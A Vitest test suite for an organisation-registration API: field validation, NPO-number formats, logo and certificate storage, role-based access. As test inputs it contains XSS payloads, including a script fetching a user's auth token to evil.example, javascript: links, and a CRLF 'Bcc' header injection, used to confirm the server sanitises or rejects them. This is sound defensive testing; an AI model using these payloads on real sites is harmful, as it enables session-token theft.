import { decodeJwt } from 'jose';
import { beforeAll, describe, expect, it } from 'vitest';
import type { MyOrganisationView } from '~/lib/contracts/organisations';
import { OrgUserRole } from '~/lib/enums';
import { DEMO_ORGANISATIONS } from '~/lib/server/db/seed/demo-users';
import { type SignedInAccount, send, verifyAndLogin } from './support/accounts';
import { demoToken, formOf, multipart, png, type Upload, uniqueWord } from './support/campaigns';
import { baseUrl, expectFailureEnvelope, expectSuccessEnvelope } from './support/http';
import { joinedMember, registerOrganisation } from './support/registeredOrganisation';

const SIYAKHULA = DEMO_ORGANISATIONS.find((o) => o.key === 'siyakhula');
const PDF = new TextEncoder().encode('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
const DESCRIPTION = '<p>We run a soup kitchen and an after-school club in Qonce, every weekday.</p>';

function fields(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    legalName: `Qonce Soup Kitchen Trust ${uniqueWord()}`,
    organizationTypeId: 1,
    organizationSectors: [2, 5],
    briefDescription: DESCRIPTION,
    mainContactPerson: {
      firstName: 'Nomsa',
      lastName: 'Dlamini',
      phone: '+27821234567',
      positionId: 3,
      email: 'nomsa@qonce.example.org',
    },
    ...overrides,
  };
}

/** A multipart body with files under their own field names. */
function formWith(values: Record<string, unknown>, files: Record<string, Upload[]> = {}): FormData {
  const form = formOf(values);
  for (const [field, uploads] of Object.entries(files)) {
    for (const upload of uploads) {
      form.append(
        field,
        new Blob([new Uint8Array(upload.bytes)], { type: upload.type ?? 'image/png' }),
        upload.name,
      );
    }
  }
  return form;
}

function register(
  token: string | undefined,
  values: Record<string, unknown>,
  files?: Record<string, Upload[]>,
) {
  return multipart<MyOrganisationView>('POST', '/api/v1/organizations/', formWith(values, files), token);
}

function edit(
  token: string | undefined,
  id: string,
  values: Record<string, unknown>,
  files?: Record<string, Upload[]>,
) {
  return multipart<MyOrganisationView>(
    'PATCH',
    `/api/v1/organizations/${id}`,
    formWith(values, files),
    token,
  );
}

function managersView(token: string | undefined, id: string) {
  return send<MyOrganisationView>('GET', `/api/v1/organizations/${id}`, undefined, token);
}

async function fileStatus(url: string, token?: string): Promise<number> {
  const res = await fetch(`${baseUrl}${url}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  await res.arrayBuffer();
  return res.status;
}

let owner: SignedInAccount;
let outsider: SignedInAccount;
let registered: MyOrganisationView;
let answerMessage: string | undefined;

beforeAll(async () => {
  [owner, outsider] = await Promise.all([
    verifyAndLogin({ firstName: 'Nomsa', lastName: 'Dlamini' }),
    verifyAndLogin({ firstName: 'Sizwe', lastName: 'Outsider' }),
  ]);
  const res = await register(
    owner.accessToken,
    fields({
      otherName: 'Qonce Soup',
      keywordsDescription: ' soup ,children,, meals , Soup ',
      address: {
        addressLine1: '3 Main Road',
        city: 'Qonce',
        province: 'Eastern Cape',
        country: 'South Africa',
      },
      videos: ['https://youtu.be/dQw4w9WgXcQ'],
      socials: [{ platform: 'facebook', url: 'https://www.facebook.com/qoncesoup' }],
      website: 'qonce-soup.example.org',
      telephone: '+27436421234',
      email: 'hello@qonce.example.org',
      nonRandOrganization: 'false',
      npoNumber: ' 123 - 456 npo ',
    }),
    {
      logo: [{ name: 'logo.png', bytes: await png(200, 120) }],
      s18Certificate: [{ name: 'section18a.pdf', bytes: PDF, type: 'application/pdf' }],
    },
  );
  expect(res.status, res.text).toBe(201);
  registered = res.body.data;
  answerMessage = res.body.meta.message;
});

describe('POST /organizations/ (register)', () => {
  it('creates the organisation with every field sent, and says so', () => {
    expect(answerMessage).toBe('Organisation created successfully');
    expect(registered.legalName).toMatch(/^Qonce Soup Kitchen Trust /);
    expect(registered.otherName).toBe('Qonce Soup');
    expect(registered.organizationTypeId).toBe(1);
    expect(registered.organizationSectors.map((s) => s.id)).toEqual([2, 5]);
    expect(registered.keywordsDescription).toBe('soup, children, meals');
    expect(registered.address).toMatchObject({
      addressLine1: '3 Main Road',
      city: 'Qonce',
      province: 'Eastern Cape',
    });
    expect(registered.organizationAddresses).toHaveLength(1);
    expect(registered.videoUrls).toEqual(['https://www.youtube.com/watch?v=dQw4w9WgXcQ']);
    expect(registered.socialUrls).toEqual(['https://www.facebook.com/qoncesoup']);
    expect(registered.website).toBe('https://qonce-soup.example.org');
    expect(registered.telephone).toBe('+27436421234');
    expect(registered.email).toBe('hello@qonce.example.org');
    expect(registered.npoNumber).toBe('123-456 NPO');
    expect(registered.mainContactPerson).toMatchObject({
      firstName: 'Nomsa',
      lastName: 'Dlamini',
      phone: '+27821234567',
      email: 'nomsa@qonce.example.org',
      position: { id: 3, name: expect.any(String) },
    });
    expect(registered.url).toBe(registered.legalName.toLowerCase().replace(/ /g, '-'));
    expect(registered.isVerified).toBe(false);
    expect(registered.verification).toBeNull();
    expect(registered.bankingDetail).toBeNull();
  });

  it('makes the caller its Owner, and their next token says they have an organisation', async () => {
    expect(registered.userRole).toBe(0);
    expect(registered.organizationUsers).toEqual([
      expect.objectContaining({ userId: owner.id, role: 0, email: owner.email }),
    ]);
    // The founder is on the team list as an accepted Owner, so later Owners can manage them.
    expect(registered.teamMembers).toEqual([
      expect.objectContaining({ email: owner.email, userRole: 0, inviteStatus: 1, deleted: false }),
    ]);
    expect(decodeJwt(owner.accessToken)).toMatchObject({ hasOrganization: false });
    const refreshed = await send<{ accessToken: string }>('POST', '/api/v1/authentication/refresh', {
      refreshToken: owner.refreshToken,
    });
    expect(refreshed.status, refreshed.text).toBe(200);
    expect(decodeJwt(refreshed.body.data.accessToken)).toMatchObject({ hasOrganization: true });
    const mine = await send<MyOrganisationView>(
      'GET',
      '/api/v1/organizations/',
      undefined,
      owner.accessToken,
    );
    expect(mine.status).toBe(200);
    expect(mine.body.data.id).toBe(registered.id);
  });

  it('stores the logo as a public image and the certificate as a private file of its uploader', async () => {
    expect(registered.logo?.fileName).toBe('logo.png');
    expect(registered.logo?.url).toMatch(/^\/files\/images\/logo\/.+\.webp$/);
    expect(await fileStatus(registered.logo?.url ?? '')).toBe(200);
    expect(registered.s18Certificate?.fileName).toBe('section18a.pdf');
    const certificate = registered.s18Certificate?.url ?? '';
    expect(await fileStatus(certificate, owner.accessToken)).toBe(200);
    expect(await fileStatus(certificate)).toBe(404);
    expect(await fileStatus(certificate, outsider.accessToken)).toBe(404);
  });

  it('answers 401 to a visitor', async () => {
    const res = await register(undefined, fields());
    expect(res.status).toBe(401);
    expectFailureEnvelope(res.body);
  });

  it('names every missing required field', async () => {
    const res = await register(outsider.accessToken, {});
    expect(res.status).toBe(400);
    expectFailureEnvelope(res.body);
    expect(res.body.meta.message).toBe('Please enter the organisation’s legal name.');
    expect(res.body.data).toEqual({
      legalName: ['Please enter the organisation’s legal name.'],
      organizationTypeId: ['Please choose the type of organisation.'],
      organizationSectors: ['Please choose at least one sector.'],
      briefDescription: ['Please describe your organisation.'],
      mainContactPerson: ['Please enter the main contact person.'],
    });
  });

  it.each([
    [
      'an unknown type',
      { organizationTypeId: 9999 },
      'organizationTypeId',
      'Please choose the type of organisation.',
    ],
    [
      'an unknown sector',
      { organizationSectors: [2, 9999] },
      'organizationSectors',
      'Please choose at least one sector.',
    ],
    [
      'six sectors',
      { organizationSectors: [1, 2, 3, 4, 5, 6] },
      'organizationSectors',
      'Please choose at most 5 sectors.',
    ],
    [
      'an unknown position',
      { mainContactPerson: { ...(fields().mainContactPerson as object), positionId: 9999 } },
      'mainContactPerson.positionId',
      'Please choose a position from the list.',
    ],
    ['a one-letter name', { legalName: 'Q' }, 'legalName', 'The legal name must be at least 2 characters.'],
    ['a reserved url', { url: 'register' }, 'url', 'That web address is reserved. Try another.'],
    [
      'a website that is no web address',
      { website: 'javascript:alert(1)' },
      'website',
      'Please enter a valid website address, such as https://example.org.',
    ],
    [
      'a description of only a script',
      { briefDescription: `<script>${'alert(1);'.repeat(10)}</script>` },
      'briefDescription',
      'Please describe your organisation in at least 30 characters.',
    ],
    [
      'a contact without an email',
      { mainContactPerson: { firstName: 'Nomsa', lastName: 'Dlamini' } },
      'mainContactPerson.email',
      'Email is a required field',
    ],
    [
      'sectors that are not JSON',
      { organizationSectors: '2,5' },
      'organizationSectors',
      'This field must be valid JSON.',
    ],
  ])('refuses %s with its message', async (_case, overrides, field, message) => {
    const res = await register(outsider.accessToken, fields(overrides));
    expect(res.status, res.text).toBe(400);
    expect(res.body.meta.message).toBe(message);
    expect(res.body.data).toMatchObject({ [field]: [message] });
  });

  it.each(['123456', '12-3456 NPO', '123-456 PBO', '123-4567', 'NPO 123-456', '123/456'])(
    'refuses the NPO number %j, saying how to write it, and creates nothing',
    async (npoNumber) => {
      const res = await register(outsider.accessToken, fields({ npoNumber }));
      expect(res.status, res.text).toBe(400);
      expect(res.body.meta.message).toBe('Please enter the NPO number as 123-456 NPO.');
      expect(res.body.data).toEqual({ npoNumber: ['Please enter the NPO number as 123-456 NPO.'] });
      expect((await send('GET', '/api/v1/organizations/', undefined, outsider.accessToken)).status).toBe(404);
    },
  );

  it('refuses a legal or other name with a line break, a bidi override or a zero-width character', async () => {
    for (const [field, value, message] of [
      ['legalName', 'Qonce Trust\r\nBcc: all', 'Legal name cannot contain line breaks or hidden characters.'],
      ['legalName', 'Qonce \u202ETrust', 'Legal name cannot contain line breaks or hidden characters.'],
      ['otherName', 'Qonce\u200BTrust', 'Other name cannot contain line breaks or hidden characters.'],
    ] as const) {
      const res = await register(outsider.accessToken, fields({ [field]: value }));
      expect(res.status, res.text).toBe(400);
      expect(res.body.data).toMatchObject({ [field]: [message] });
    }
    expect((await send('GET', '/api/v1/organizations/', undefined, outsider.accessToken)).status).toBe(404);
  });

  it('refuses two logos, and a logo that is no image', async () => {
    const two = await register(outsider.accessToken, fields(), {
      logo: [
        { name: 'a.png', bytes: await png() },
        { name: 'b.png', bytes: await png() },
      ],
    });
    expect(two.status).toBe(400);
    expect(two.body.meta.message).toBe('Please upload one logo.');
    const notImage = await register(outsider.accessToken, fields(), {
      logo: [{ name: 'logo.png', bytes: PDF }],
    });
    expect(notImage.status).toBe(400);
    expect(notImage.body.meta.message).toBe('Please upload a JPEG, PNG, WebP, GIF or AVIF image.');
    const mine = await send('GET', '/api/v1/organizations/', undefined, outsider.accessToken);
    expect(mine.status).toBe(404);
  });

  it('answers 409 when the url asked for is another organisation’s, and makes a free one from the name', async () => {
    const taken = await register(outsider.accessToken, fields({ url: registered.url }));
    expect(taken.status).toBe(409);
    expect(taken.body.meta.message).toBe('That web address is already taken. Try another.');
    const sameName = await register(outsider.accessToken, fields({ legalName: registered.legalName }));
    expect(sameName.status, sameName.text).toBe(201);
    expect(sameName.body.data.url).toBe(`${registered.url}-2`);
  });
});

describe('PATCH /organizations/{id} (edit)', () => {
  it('changes the fields sent and keeps the rest', async () => {
    const res = await edit(owner.accessToken, registered.id, {
      otherName: 'Qonce Soup & Books',
      address: { city: 'King William’s Town' },
      organizationSectors: [7],
    });
    expect(res.status, res.text).toBe(200);
    expectSuccessEnvelope(res.body);
    expect(res.body.meta.message).toBe('Organisation updated successfully.');
    const after = res.body.data;
    expect(after.otherName).toBe('Qonce Soup & Books');
    expect(after.address).toMatchObject({ addressLine1: '3 Main Road', city: 'King William’s Town' });
    expect(after.organizationSectors.map((s) => s.id)).toEqual([7]);
    expect(after.legalName).toBe(registered.legalName);
    expect(after.briefDescription).toBe(registered.briefDescription);
    expect(after.videoUrls).toEqual(registered.videoUrls);
    expect(after.mainContactPerson).toEqual(registered.mainContactPerson);
    expect(after.logo).toEqual(registered.logo);
  });

  it('stores the NPO number as 123-456 NPO however it is typed, refuses another shape, and clears it when empty', async () => {
    const typed = await edit(owner.accessToken, registered.id, { npoNumber: '987-654' });
    expect(typed.status, typed.text).toBe(200);
    expect(typed.body.data.npoNumber).toBe('987-654 NPO');
    const lowerCase = await edit(owner.accessToken, registered.id, { npoNumber: '987-654npo' });
    expect(lowerCase.body.data.npoNumber).toBe('987-654 NPO');

    const refused = await edit(owner.accessToken, registered.id, { npoNumber: '9876-54 NPO' });
    expect(refused.status, refused.text).toBe(400);
    expectFailureEnvelope(refused.body);
    expect(refused.body.data).toEqual({ npoNumber: ['Please enter the NPO number as 123-456 NPO.'] });
    const kept = await managersView(owner.accessToken, registered.id);
    expect(kept.body.data.npoNumber).toBe('987-654 NPO');

    const cleared = await edit(owner.accessToken, registered.id, { npoNumber: '' });
    expect(cleared.status, cleared.text).toBe(200);
    expect(cleared.body.data.npoNumber).toBeNull();
  });

  it('replaces the logo and deletes the old one', async () => {
    const before = (await managersView(owner.accessToken, registered.id)).body.data;
    const oldLogo = before.logo?.url ?? '';
    expect(await fileStatus(oldLogo)).toBe(200);
    const res = await edit(
      owner.accessToken,
      registered.id,
      {},
      {
        logo: [{ name: 'new-logo.png', bytes: await png(120, 120, '#e4572e') }],
      },
    );
    expect(res.status, res.text).toBe(200);
    expect(res.body.data.logo?.fileName).toBe('new-logo.png');
    expect(res.body.data.logo?.url).not.toBe(oldLogo);
    expect(await fileStatus(res.body.data.logo?.url ?? '')).toBe(200);
    expect(await fileStatus(oldLogo)).toBe(404);
  });

  it('stores a hostile description sanitised', async () => {
    const res = await edit(owner.accessToken, registered.id, {
      briefDescription:
        '<p onclick="steal()">We feed 200 children every weekday in Qonce.</p>' +
        '<script>fetch("https://evil.example/"+localStorage.userAuthToken)</script>' +
        '<img src=x onerror="alert(1)"><a href="javascript:alert(1)">our menu</a>',
    });
    expect(res.status, res.text).toBe(200);
    const view = await managersView(owner.accessToken, registered.id);
    const html = view.body.data.briefDescription ?? '';
    expect(html).toContain('<p>We feed 200 children every weekday in Qonce.</p>');
    expect(html).not.toMatch(/<script|onerror|onclick|javascript:|<img/i);
  });

  it('answers 409 for a url another organisation has', async () => {
    const res = await edit(owner.accessToken, registered.id, { url: SIYAKHULA?.url });
    expect(res.status).toBe(409);
    expect(res.body.meta.message).toBe('That web address is already taken. Try another.');
  });

  it('refuses visitors (401), outsiders (403) and unknown ids (404)', async () => {
    const visitor = await edit(undefined, registered.id, { otherName: 'Hijacked' });
    expect(visitor.status).toBe(401);
    const outsiderEdit = await edit(outsider.accessToken, registered.id, { otherName: 'Hijacked' });
    expect(outsiderEdit.status).toBe(403);
    expectFailureEnvelope(outsiderEdit.body);
    expect(outsiderEdit.body.meta.message).toBe('You do not have permission to change this organisation.');
    const outsiderRead = await managersView(outsider.accessToken, registered.id);
    expect(outsiderRead.status).toBe(403);
    const unknown = await edit(owner.accessToken, '0b0e6f5e-8a47-4c5e-9d55-9f2f3c1c0a11', { otherName: 'X' });
    expect(unknown.status).toBe(404);
    expect(unknown.body.meta.message).toBe('Organisation not found.');
    const notAnId = await managersView(owner.accessToken, 'not-an-id');
    expect(notAnId.status).toBe(404);
    const after = await managersView(owner.accessToken, registered.id);
    expect(after.body.data.otherName).not.toBe('Hijacked');
  });
});

describe('the Roles table on a demo organisation', () => {
  it('lets an Admin read and edit the profile', async () => {
    const token = await demoToken('kagiso');
    const view = await send<MyOrganisationView>('GET', '/api/v1/organizations/', undefined, token);
    const id = view.body.data.id;
    const read = await managersView(token, id);
    expect(read.status).toBe(200);
    expect(read.body.data.userRole).toBe(1);
    expect(read.body.data.legalName).toBe(SIYAKHULA?.legalName);
    // The same telephone back: allowed, and nothing other test files read changes.
    const res = await edit(token, id, { telephone: read.body.data.telephone });
    expect(res.status, res.text).toBe(200);
    expect(res.body.data.userRole).toBe(1);
  });

  it('refuses a Champion the managers’ view and the edit (403)', async () => {
    const token = await demoToken('pieter');
    const view = await send<MyOrganisationView>('GET', '/api/v1/organizations/', undefined, token);
    const id = view.body.data.id;
    expect((await managersView(token, id)).status).toBe(403);
    const res = await edit(token, id, { legalName: 'Pieter’s Trust' });
    expect(res.status).toBe(403);
    expect(res.body.meta.message).toBe('You do not have permission to change this organisation.');
  });
});

describe('the Roles table with a real Editor (invited and accepted)', () => {
  it('lets an Editor edit the profile, and refuses them verification and the team (403)', async () => {
    const org = await registerOrganisation(`Editor Roles Trust ${uniqueWord('zedit')}`);
    const editor = await joinedMember(org, 'Ayanda', OrgUserRole.Editor);

    const edited = await edit(editor.accessToken, org.id, { otherName: 'Ayanda’s edit' });
    expect(edited.status, edited.text).toBe(200);
    expect(edited.body.data).toMatchObject({ otherName: 'Ayanda’s edit', userRole: OrgUserRole.Editor });

    const verification = await multipart(
      'PATCH',
      `/api/v1/organizations/${org.id}/verification`,
      formOf({ verification: { hasFulltimeStaff: true } }),
      editor.accessToken,
    );
    expect(verification.status).toBe(403);
    expect(verification.body).toMatchObject({
      meta: { message: 'You do not have permission to change this organisation.' },
    });

    const invite = await send(
      'PATCH',
      '/api/v1/team-members',
      {
        organizationId: org.id,
        firstName: 'Sneaky',
        lastName: 'Invite',
        email: `${uniqueWord('zsneak')}@example.test`,
        userRole: OrgUserRole.Admin,
      },
      editor.accessToken,
    );
    expect(invite.status).toBe(403);
    const view = await managersView(org.owner.accessToken, org.id);
    expect(view.body.data.teamMembers.map((m) => m.firstName)).not.toContain('Sneaky');
    expect(view.body.data.verification).toBeNull();
  });
});
